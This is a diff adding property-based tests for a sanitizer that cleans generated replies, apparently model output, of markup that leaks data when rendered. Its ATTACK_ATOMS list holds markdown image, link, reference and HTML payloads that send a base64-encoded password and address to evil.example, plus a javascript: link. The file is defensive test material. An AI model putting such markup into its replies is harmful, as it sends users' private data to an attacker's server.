@@ -1,0 +1,108 @@
+"""Invariants over generated replies (hypothesis): idempotence, honest text unchanged,
+changes confined to the spans the findings name, and no leak in any renderer."""
+
+from __future__ import annotations
+
+from attacks import violations
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from rendersafe import Finding, Sanitizer
+
+S = Sanitizer()
+PAYLOAD = "VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZlcyBhdCAxMiBFbG0gU3Q="
+
+HONEST_ATOMS = [
+    "Hello world.", "**bold**", "*em*", "`code`", "``a`b``", "[docs](https://docs.python.org/3/)",
+    "<https://example.com/a>", "https://github.com/encode/httpx", "www.example.com",
+    "[ref][r]", "[r]", "x < y", "a & b", "[sic]", "array[0]", "(paren)", "!", "<kbd>K</kbd>",
+    "<br>", "see [1]", "---", "# Title", "| a | b |", "|---|---|", "```", "~~~", "    indented",
+    "\\*escaped\\*", "&copy;", "&amp;", "someone@example.com", "\u00e9t\u00e9", "\t", "  ",
+    "[link](#anchor)", "[a](./b.md 'title')", "![](", "[", "]", "(", ")", "<!-- c -->",
+]  # fmt: skip
+ATTACK_ATOMS = [
+    "![x](https://evil.example/p.png)",
+    f"![x](https://evil.example/p.png?d={PAYLOAD})",
+    f"[click](https://evil.example/?d={PAYLOAD})",
+    "![r]",
+    "![alt][r]",
+    "[r]: https://evil.example/r.png",
+    f"[q]: https://evil.example/?d={PAYLOAD}",
+    "[q]",
+    f"<img src=https://evil.example/i.png>",
+    f"<a href='https://evil.example/?d={PAYLOAD}'>a</a>",
+    f"https://evil.example/?d={PAYLOAD}",
+    "![a](http://evil.example/a b.png)",
+    "![a](//evil.example/x.png",
+    "<img src=\"https://evil.example/cut.png",
+    "<!--",
+    "[x](javascript:alert(1))",
+]
+PREFIXES = ["", "> ", "> > ", "- ", "1. ", "  ", "\t", "# ", "| "]
+SEPARATORS = [" ", "\n", "\n\n", ""]
+
+
+def _document(atoms: list[str]) -> st.SearchStrategy[str]:
+    line = st.lists(st.sampled_from(atoms), min_size=1, max_size=6).map(" ".join)
+    prefixed = st.tuples(st.sampled_from(PREFIXES), line).map("".join)
+    return st.lists(st.tuples(prefixed, st.sampled_from(SEPARATORS)), max_size=8).map(
+        lambda parts: "".join(a + b for a, b in parts)
+    )
+
+
+honest = _document(["[r]: https://example.org/ref", *HONEST_ATOMS])
+mixed = _document(HONEST_ATOMS + ATTACK_ATOMS)
+SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+
+
+@SETTINGS
+@given(honest)
+def test_honest_replies_come_back_unchanged(text: str) -> None:
+    result = S.run(text)
+    assert result.text == text
+    assert result.findings == ()
+
+
+@SETTINGS
+@given(mixed)
+def test_idempotent(text: str) -> None:
+    once = S.run(text).text
+    assert S.run(once).text == once
+
+
+@SETTINGS
+@given(mixed)
+def test_changes_stay_inside_the_findings_spans(text: str) -> None:
+    result = S.run(text)
+    if not any(f.recheck for f in result.findings):
+        _assert_outside_unchanged(text, result.text, list(result.findings))
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(mixed)
+def test_no_renderer_leaks_the_output(text: str) -> None:
+    output = S.run(text).text
+    assert violations(output, payloads=[PAYLOAD[:24], "hunter2"]) == []
+
+
+@SETTINGS
+@given(st.text(max_size=300))
+def test_arbitrary_unicode_never_crashes(text: str) -> None:
+    result = S.run(text)
+    assert S.run(result.text).text == result.text
+
+
+def _assert_outside_unchanged(before: str, after: str, findings: list[Finding]) -> None:
+    """Every stretch of `before` outside the changed spans appears in `after`, in order."""
+    spans = sorted((f.start, f.end) for f in findings)
+    pos, cursor = 0, 0
+    for start, end in spans:
+        if start < pos:
+            pos = max(pos, end)
+            continue
+        kept = before[pos:start]
+        found = after.find(kept, cursor)
+        assert found >= 0, (kept, after)
+        cursor = found + len(kept)
+        pos = end
+    assert after.endswith(before[pos:]) if pos <= len(before) else True
